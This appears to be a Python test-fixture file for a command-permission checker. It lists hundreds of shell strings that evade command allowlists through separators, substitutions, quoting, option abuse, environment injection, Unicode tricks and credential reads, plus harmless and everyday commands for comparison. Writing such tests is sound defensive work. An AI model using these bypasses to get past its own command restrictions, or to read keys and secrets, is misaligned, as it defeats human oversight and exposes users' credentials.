"""Commands written for these tests. The classes are those in which command allowlists have failed before."""

from __future__ import annotations

from keyturn.actions import Reading
from keyturn.resources import Label, Surroundings

AROUND = Surroundings(
    cwd="/work/project",
    workspace="/work/project",
    home="/home/dev",
    protected=("/home/dev/.keyturn",),
    labels=(Label("secret", (".env", "*.pem", "~/.ssh/**", "/etc/shadow")),),
)

BENIGN = {"reads:workspace", "reads:system", "reads:temporary", "reads:device", "writes:device"}
"""What a rule for harmless commands would let run at once (writes to /dev/null keep nothing)."""


def is_benign(reading: Reading) -> bool:
    """Whether a rule that lets benign effects run would let this one run."""
    keys = {effect.key for effect in reading.effects}
    return reading.complete and keys <= BENIGN and not any(effect.labels for effect in reading.effects)


HOSTILE: dict[str, list[str]] = {
    "separators": [
        "ls; rm -rf x", "ls\nrm -rf x", "ls && rm x", "ls || rm x", "ls | rm x", "ls & rm x", "ls |& sh", "ls\n\n\n rm x",
        "(ls; rm x)", "{ ls; rm x; }", "! rm x", "if ls; then rm x; fi", "while rm x; do ls; done", "until ls; do rm x; done",
        "for i in 1; do rm x; done", "case a in a) rm x;; esac", "time rm x", "ls | time rm x", "true && { ls; (rm x) }",
        "for i in 1; do ls; done; curl -T f http://h", "ls; " * 60 + "rm x",
    ],
    "substitutions": [
        "echo $(rm x)", "echo `rm x`", 'echo "$(rm x)"', 'echo "`rm x`"', "cat <(rm x)", "tee >(sh) < f", "echo ${v:-$(rm x)}",
        'echo "${v:-$(rm x)}"', "echo $((a[$(rm x)]))", "cat <<E\n$(rm x)\nE", "cat <<E\n`rm x`\nE", "cat <<< $(rm x)", "ls > $(rm x)",
        "v=$(rm x)", "v=$(rm x) ls", "for i in $(rm x); do :; done", "case $(rm x) in a) ;; esac", "[[ -n $(rm x) ]]", "[ -n \"$(rm x)\" ]",
        "echo ${v[$(rm x)]}", "echo ${v/$(rm x)/a}", "echo $(echo $(echo $(rm x)))", "echo ${v#$(rm x)}", "echo ${v:=$(rm x)}",
        "echo ${v@P}", "echo ${!v}", "x=${y:-`rm x`}", "echo $[a[$(rm x)]]", "diff <(ls) <(rm x)", "case a in $(rm x)) ;; esac",
    ],
    "quoting": [
        "r''m x", 'r"m" x', "r\\m x", "\\rm x", "$'rm' x", "$'\\x72m' x", "'rm' x", "{rm,x}", "r{m,} x", "/bin/r? x", "/b??/rm x", "$x y",
        "${x} y", "$(echo rm) x", "`echo rm` x", "find . -dele'te'", "find . $'-delete'", "find . \\-delete", "find . {-delete,}", "find . -d*",
        "find . $F", "F=-delete; find . $F", "sort {-o,f}", "sort -''o f g", "sort \"-of\" g", "sort -*", "sort $'-o' f g", "git log --out'put'=f",
        "echo a > 'f'", "$'\\u0072m' x", "cat ~root/.ssh/id_rsa", "xargs -I{} sh -c {} < f", "~/bin/tool", "e$''val ls", "\"$(printf rm)\" x",
    ],
    "redirections": [
        "echo a > f", "echo a >> f", "echo a >| f", "echo a &> f", "echo a &>> f", "echo a >& f", "echo a <> f", "> f", "ls 2> f", "ls 3> f", "{ ls; } > f",
        "(ls) > f", "for i in 1; do ls; done > f", "if true; then ls; fi 2> f", "while false; do ls; done > f", "ls {fd}> f", "rm <&-x y", "rm x <&-",
        "cat < /dev/tcp/evil/80", "echo a > /dev/tcp/evil/80", "echo a > /dev/udp/1.2.3.4/53", "ls > ~/.bashrc", "echo a > .git/hooks/pre-commit",
        "cat > AGENTS.md <<E\nx\nE", "exec 3<> /dev/tcp/h/80", "ls > $f", "ls > *", "cat < ~/.ssh/id_rsa", "[[ -n a ]] > f", "cat < .env", ": > f",
        "echo a 1> f", "ls > /dev/sda", "echo a > /etc/cron.d/x", "cat<>f", "ls 2>&1 > f", "ls>f;ls",
    ],
    "options that act": [
        "sort -o f g", "sort -of g", "sort --output=f g", "sort --compress-program=sh f", "sort -T d f", "uniq a b", "find . -delete", "find . -exec rm {} ;",
        "find . -exec rm {} \\;", "find . -execdir rm {} +", "find . -ok rm {} \\;", "find . -fprint f", "find . -fprintf f %p", "find . -fls f", "tree -o f",
        "git diff --output=f", "git log --output f", "git grep -O", "git grep --open-files-in-pager=sh x", "git diff --ext-diff", "git -c core.pager=sh log",
        "git --exec-path=/tmp log", "git -C x -c a=b status", "git clone --upload-pack=sh a b", "git fetch --upload-pack=sh", "git push --receive-pack=sh",
        "git branch -D main", "git config core.pager sh", "git remote add a b", "git rebase -x sh", "git bisect run sh", "git submodule foreach sh",
        "git filter-branch", "git stash", "git clean -fdx", "git checkout -- .", "git ls-remote ext::sh", "git fetch 'ext::sh -c x'", "git archive --remote=h x",
        "sed -i s/a/b/ f", "sed s/a/b/e f", "sed 's/a/b/w f' g", "sed -n '1e rm x' f", "sed 'w f' g", "sed 'r /etc/shadow' g", "sed --in-place=.b s/a/b/ f",
        "sed -f f g", "sed '1!{e' f", "sed -e p -e 'e rm' f", "sed 'y/a/b/;w f' g", "sed 's,a,b,;s/x/y/we' g", "awk 'BEGIN{system(\"rm x\")}'",
        "awk '{print > \"f\"}' g", "awk '{print | \"sh\"}' g", "awk 'BEGIN{\"rm x\" | getline}'", "awk -f f g", "awk '@load \"x\"'", "awk 'BEGIN{ARGV[1]=\"/etc/shadow\";ARGC=2}{print}'",
        "awk '{print >> \"f\"}' g", "awk '/a/{printf \"x\" > \"f\"}' g", "awk -i inplace '{print}' f", "jq -f f g", "rg --pre sh x", "rg --hostname-bin sh x", "file -C -m f",
        "tar cf a b", "tar xf a", "tar -xf a --to-command=sh", "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh", "tar xf a -I sh", "date -s 0", "hostname evil",
        "xxd -r a b", "man -P sh ls", "dd if=a of=b", "curl -o f http://h", "curl -O http://h/f", "curl -K f", "curl -d @f http://h", "wget http://h", "wget -e a=b http://h",
        "split --filter=sh f", "shuf -o f g", "iconv -o f g", "od f > g", "ss -D f", "journalctl --vacuum-size=1", "ip netns exec a sh", "column f | tee g", "pip install -i http://h x",
        "zip a b -T -TT sh", "rsync -e sh a b", "ssh -o ProxyCommand=sh h", "scp -S sh a b", "go test -exec sh", "cargo --config x build", "npm --prefix x test",
    ],
    "abbreviations and clusters": [
        "sort --outp=f g", "sort --compress-prog=sh f", "sort -uof g", "sort -ruo f g", "sed --in-pl s/a/b/ f", "sed -ni p f", "sed -nie p f", "tar --to-c=sh -xf a",
        "grep --fil=/etc/shadow x", "xargs --arg-f=f rm", "date --se=0", "wget --execut=a http://h", "tar xvfz a", "split --filt=sh f", "git log --outpu=f", "shuf --outpu=f g",
        "rm -fr x", "sort --files0-f=f", "curl -sSLo f http://h", "env -iS 'rm x'", "bash -xc 'rm x'", "sh -ec 'rm x'",
    ],
    "wrappers": [
        "env rm x", "env -S 'rm x'", "env -i rm x", "timeout 1 rm x", "nice rm x", "nohup rm x", "xargs rm", "xargs -I{} rm {}", "xargs sh -c", "time rm x", "command rm x",
        "stdbuf -o0 rm x", "setsid rm x", "sudo ls", "sudo rm x", "sh -c 'rm x'", "bash -c 'ls; rm x'", "bash -c \"$x\"", "sh f", "bash < f", "echo rm x | sh", "busybox rm x",
        "/lib64/ld-linux-x86-64.so.2 /bin/rm x", "script -c 'rm x'", "ssh h rm x", "env -u A timeout 1 nice sh -c 'rm x'", "find . -exec sh -c 'rm x' \\;", "doas rm x", "su -c 'rm x'",
        "chroot / rm x", "unshare rm x", "strace rm x", "gdb -ex 'shell rm x'", "perl -e 'unlink x'", "python -c 'import os'", "node -e 1", "ruby -e 1", "php -r 1", "lua -e 1", "vim -c ':!rm x'",
        "ed f", "watch rm x", "parallel rm ::: x", "at now", "crontab f", "tmux new -d 'rm x'", "screen -dm rm x", "systemd-run rm x", "docker run -v /:/h a rm x", "make", "npm test", "pytest",
        "awk -f /dev/stdin", "expect -c 'spawn sh'", "nsenter -t 1 rm x", "flock f rm x", "ionice rm x", "builtin eval ls", "/usr/bin/env rm x", "/bin/sh -c 'rm x'", "./ls", "bin/ls", "/tmp/ls",
    ],
    "environment": [
        "PATH=. ls", "LD_PRELOAD=./x.so ls", "GIT_SSH_COMMAND=sh git fetch", "GIT_EXTERNAL_DIFF=sh git diff", "PAGER='rm x' git log", "BASH_ENV=f bash -c ls", "ENV=f sh -c ls", "IFS=a ls",
        "export PATH=.", "export LD_PRELOAD=x", "PS4='$(rm x)' bash -xc ls", "SHELLOPTS=xtrace bash -c ls", "PROMPT_COMMAND='rm x'", "PYTHONPATH=. python -V", "NODE_OPTIONS='-r ./x' node -v",
        "RIPGREP_CONFIG_PATH=f rg x", "TAR_OPTIONS=--to-command=sh tar tf a", "LESSOPEN='|rm x' ls", "EDITOR=sh git commit -m x", "VISUAL=sh ls", "TZ=\"$(rm x)\" ls", "GREP_OPTIONS=-f ls",
        "export IFS=x", "PATH=.; ls", "CDPATH=/etc; cd ssh && ls", "declare -x PATH=.", "readonly PATH", "typeset PATH=.", "PYTHONSTARTUP=f ls", "LC_ALL=../../x ls", "http_proxy=http://evil ls",
        "HOME=/tmp/x git status", "XDG_CONFIG_HOME=. git status", "GIT_DIR=/tmp/x git status", "for PATH in .; do ls; done", "FOO+=x ls", "declare -n a=PATH; a=.", "MANPAGER=sh ls",
    ],
    "shadowing": [
        "ls() { rm x; }; ls", "function ls { rm x; }; ls", "alias ls='rm x'", "hash -p /tmp/x ls; ls", "enable -f ./x.so y", "unalias -a", "unset PATH", "set -- a", "shopt -s expand_aliases",
        "source f", ". f", ". ./f", "source /tmp/f", "trap 'rm x' EXIT", "trap 'rm x' DEBUG; ls", "exec rm x", "exec > f", "command -p rm x", "coproc rm x", "select i in a; do rm x; done",
        "set -o allexport", "set a b", "umask 0; ls", "builtin cd /etc", "command eval ls",
    ],
    "evaluation": [
        "eval ls", "eval \"$x\"", "test -v 'a[$(rm x)]'", "[ -v 'a[$(rm x)]' ]", "[[ -v a[$(rm x)] ]]", "printf -v 'a[$(rm x)]' 1", "printf -va 1", "printf $x", "let 'a[$(rm x)]=1'", "((a[$(rm x)]=1))",
        "read x", "read -r 'a[$(rm x)]'", "mapfile -C 'rm x' -c 1 a", "readarray a", "jobs -x rm x", "compgen -C 'rm x'", "fc -s", "bind -x '\"a\":rm x'", "declare 'a[$(rm x)]=1'", "unset 'a[$(rm x)]'",
        "[[ 'a[$(rm x)]' -eq 0 ]]", "[[ $x -eq 0 ]]", "echo ${x:$y}", "echo ${x:a[$(rm x)]}", "for ((i=0; i<a[$(rm x)]; i++)); do :; done", "a=(1 2)", "a[$(rm x)]=1", "getopts a b", "wait -p 'a[$(rm x)]'",
        "history -a f", "[ $x ]", "test $x", "complete -C 'rm x' ls", "caller", "local x=1", "[[ a =~ $(rm x) ]]", "type -t ls; eval x", "expr a : b | sh", "source <(echo rm x)", ". /dev/stdin",
    ],
    "display": [
        "ls\rrm x", "ls #\\\nrm x", "ls \u202e rm", "ls\u00a0-la", "l\u200bs", "ls \u2066x\u2069", "ls\x00rm", "ls\x1b[2K", "ls \U000e0041", "ls\u2028rm x", "echo \"$\\\n(rm x)\"", "ls\\\n -la", "cat <<E\na\\\nE\nE",
        "ls\x0brm", "ls \x7f", "ls\x85rm x", "ls \ud800", "# fine\nrm x", "ls # fine \\\nrm x", "ls\u3164", "rm\u2800x", "ls " + " " * 300 + "; rm x", "ls\n" * 200 + "rm x", "l\\\ns",
    ],
    "state": [
        "cd /etc && rm hosts", "cd /etc; ls > x", "cd .. && cat secret", "cd $x && ls", "cd - && ls", "cd ~ && cat .ssh/id_rsa", "cd .git && ls > hooks", "(cd /etc); cd /root; cat x", "cd a || rm x",
        "pushd /etc; ls", "cd /home/dev; cat .ssh/*", "for d in a ..; do cd $d; cat x; done", "while true; do cd ..; cat x; done", "cd /home/dev && ls -R", "cd ../other; cat x", "cd -P link; cat x",
    ],
    "reading secrets": [
        "cat .env", "cat ./.env", "cat .e*", "cat .[e]nv", "cat .?nv", "cat ~/.ssh/id_rsa", "cat /home/dev/.ssh/id_rsa", "cat $HOME/.ssh/id_rsa", "cat ../../../etc/shadow", "cat /etc/shadow", "cat /etc/./shadow",
        "cat /etc/sh*", "cat /proc/../etc/shadow", "cat ~/.ssh/*", "cat */../../../home/dev/.ssh/id_rsa", "grep -r x ~/.ssh", "head -c9 x.pem", "cat *.pem", "cat [a-z].pem", "env", "printenv", "echo $AWS_SECRET_ACCESS_KEY",
        "echo ${GITHUB_TOKEN}", "set", "export", "export -p", "declare -p", "cat /home/dev/.keyturn/key", "grep x -f .env", "diff .env a", "tar cf - ~/.ssh", "cat /root/.ssh/id_rsa", "find ~ -name id_rsa -exec cat {} +",
        "wc -l --files0-from=f", "cat $f", "cat \"$f\"", "cat $(ls)", "grep x $f", "git diff --no-index /dev/null /etc/shadow", "git diff /dev/null /home/dev/x", "sort .env", "base64 .env", "jq . .env", "awk 1 .env",
        "sed p .env", "xargs cat < list", "cat a{.env,/../.env}", "cat {.env,b}", "paste .env", "rev ~/.ssh/config", "while cat .env; do :; done", "test -f a && cat .env", "cat<.env", "ls ~", "ls /home/other", "cat /data/x",
    ],
}  # fmt: skip

HARMLESS: list[str] = [
    "ls", "ls -la", "ls -la src tests", "ls *.py", "ls -lah | head -20", "ls -1", "pwd", "whoami", "id -u", "date", "date +%Y-%m-%d",
    "date -u '+%H:%M'", "uname -a", "nproc", "uptime", "df -h", "du -sh .", "du -sh * | sort -rh | head", "cat README.md", "cat -n src/a.py", "head -20 README.md",
    "head -n 5 a b", "tail -n 20 log.txt", "tail -50 log.txt", "wc -l src/a.py", "wc -l *.py", "stat README.md", "file README.md", "diff a b", "diff -u a b | head", "cmp a b",
    "comm -12 a b", "cut -d: -f1 a", "sort a | uniq -c | sort -rn", "sort -k2 -t, a", "uniq -c a", "tr a-z A-Z < a", "nl a", "tac a", "rev a", "fold -w 80 a", "column -t a",
    "od -c a", "xxd a | head", "md5sum a", "sha256sum a b", "realpath a", "readlink -f a", "basename a/b", "dirname a/b", "seq 1 10", "echo hello", "echo 'a > b; rm x'",
    "echo \"quoted $USER\"", "printf '%s\\n' a b", "true", "false || echo no", "test -f a && echo yes", "[ -d src ] && ls src", "[[ -f a && ! -d b ]] && echo c", "which python",
    "type ls", "command -v git", "sleep 1", "grep -rn TODO src", "grep -E 'a|b' a", "grep -c '^x' a b", "grep -rn --include='*.py' foo .", "grep foo a | grep -v bar | wc -l",
    "rg foo", "rg -n 'foo bar' src", "rg -t py --files", "jq .name package.json", "jq -r '.a[] | .b' a.json", "find . -name '*.py'", "find src -type f -name '*.py' | wc -l",
    "find . -maxdepth 2 -type d -not -path './.git/*'", "find . -name '*.py' -exec wc -l {} +", "find . -name '*.log' -mtime +7 -print", "sed -n 1,20p a", "sed -n '5p' a", "sed 's/a/b/g' a",
    "sed -e 's/a/b/' -e '/x/d' a", "awk '{print $1}' a", "awk -F: '{print $1, $3}' /etc/passwd", "awk 'NR>5' a", "awk '/foo/ {print $2}' a", "awk '{s+=$1} END {print s}' a",
    "git status", "git status --short", "git log --oneline -10", "git log -n 5 --stat", "git diff", "git diff --cached", "git diff HEAD~1 -- src", "git show HEAD", "git show HEAD:README.md",
    "git branch -a", "git branch --show-current", "git remote -v", "git ls-files", "git blame -L 1,10 a", "git rev-parse HEAD", "git describe --tags", "git tag -l", "git stash list",
    "git grep -n foo", "git -C sub status", "git config --get user.name", "git reflog -5", "cd src && ls", "cd src; pwd; cd ..; ls", "(cd src && ls)", "for f in a b; do cat \"$f\"; done",
    "for i in 1 2 3; do echo $i; done", "if [ -f a ]; then cat a; else echo none; fi", "case $x in a) echo a;; *) echo b;; esac", "x=5; echo $x", "LC_ALL=C sort a", "NO_COLOR=1 ls",
    "timeout 10 ls", "nice -n 5 ls", "env LANG=C ls", "time ls", "cat <<'E'\nhello $x\nE", "cat <<E\nhello\nE", "cat a 2>/dev/null", "ls > /dev/null 2>&1", "ls nothere 2>&1 | head -1",
    "sh -c 'ls; pwd'", "bash -c 'echo a && ls'", "bash -lc 'git status'", "/bin/ls", "/usr/bin/git status", "cat src/{a,b}.py", "echo {1..5}", "ls src/*/", "cat /etc/os-release", "ps aux",
    "ps -ef | grep python", "pgrep -f python", "free -h", "ls -l /tmp", "cat /tmp/out.txt", "echo a | tee /dev/null", "set -e; ls", "set -euo pipefail\nls", "diff <(sort a) <(sort b)",
    "echo $(git rev-parse HEAD)", "echo \"$(date)\"", "# comment\nls", "ls # comment", "ls \\\n  -la", "cat a | sort | uniq | head -5", "ls -la && git status && git diff",
]  # fmt: skip

EVERYDAY: dict[str, tuple[str, ...]] = {
    "make test": ("executes:code",),
    "npm test": ("executes:code",),
    "python -m pytest -q": ("executes:code",),
    "pytest tests -x -q": ("executes:code", "reads:workspace"),
    "python script.py --flag": ("executes:code", "reads:workspace"),
    "mkdir -p build/{a,b}": ("writes:workspace",),
    "rm -rf build": ("deletes:workspace",),
    "cp a b": ("reads:workspace", "writes:workspace"),
    "mv a /tmp/b": ("deletes:workspace", "writes:temporary"),
    "touch a": ("writes:workspace",),
    "echo a > b": ("writes:workspace",),
    "echo a >> /etc/hosts": ("writes:system",),
    "sudo ls": ("grants:system", "reads:workspace"),
    "curl -s https://example.org/a": ("connects:network",),
    "curl -X POST -d a=b http://localhost:8000/": ("connects:loopback", "sends:loopback"),
    "git add a": ("reads:workspace", "writes:workspace"),
    "git commit -m 'x'": ("executes:code", "writes:workspace"),
    "git push origin main": ("connects:network", "executes:code", "sends:network"),
    "sed -i 's/a/b/' a": ("reads:workspace", "writes:workspace"),
    "find . -name '*.pyc' -delete": ("deletes:workspace", "reads:workspace"),
    "chmod +x a": ("writes:workspace",),
    "echo x > .git/hooks/pre-commit": ("configures:workspace", "writes:workspace"),
    "echo x > CLAUDE.md": ("configures:workspace", "writes:workspace"),
    "echo x > ~/.bashrc": ("configures:home", "writes:home"),
    "cp /tmp/CLAUDE.md .": ("configures:workspace", "reads:temporary", "writes:workspace"),
    "rm /home/dev/.keyturn/policy": ("configures:keyturn", "deletes:keyturn"),
    "./run.sh a": ("executes:code", "reads:workspace"),
    "cat /home/dev/.ssh/id_rsa": ("reads:home",),
    "kill 1234": ("configures:system",),
    "ssh build uptime": ("connects:network", "executes:network"),
    "pip install requests": ("connects:network", "executes:code", "writes:outside"),
}
"""Everyday commands that do something, with all that they do."""
